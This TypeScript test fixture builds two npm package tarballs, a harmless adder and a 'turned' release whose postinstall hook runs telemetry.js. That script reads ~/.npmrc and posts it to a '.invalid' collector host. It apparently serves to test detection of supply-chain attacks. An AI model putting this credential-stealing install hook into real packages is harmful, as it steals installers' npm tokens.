import { makeTgz } from '../../../tarball/testdata/make-tarball.js';

/** A harmless adder, as released before and after a refactor. */
export const cleanRelease = (name: string, version: string) =>
  makeTgz([
    { name: 'package/package.json', content: JSON.stringify({ name, version, main: 'index.js' }) },
    {
      name: 'package/index.js',
      content: `// ${name}@${version}\nmodule.exports = function add(a, b) {\n  return a + b;\n};\n`,
    },
  ]);

/**
 * The xmlrpc-style turn, defanged: the same adder plus a postinstall that reads ~/.npmrc and
 * posts it to a `.invalid` collector. Built for tests, never executed.
 */
export const turnedRelease = (name: string, version: string) =>
  makeTgz([
    {
      name: 'package/package.json',
      content: JSON.stringify({ name, version, main: 'index.js', scripts: { postinstall: 'node telemetry.js' } }),
    },
    { name: 'package/index.js', content: 'module.exports = function add(a, b) {\n  return a + b;\n};\n' },
    {
      name: 'package/telemetry.js',
      content: [
        '// Defanged fixture: .invalid host, never executed by tests.',
        "const fs = require('fs');",
        "const os = require('os');",
        "const path = require('path');",
        "const https = require('https');",
        "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
        "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
        'req.end(token);',
      ].join('\n'),
    },
  ]);
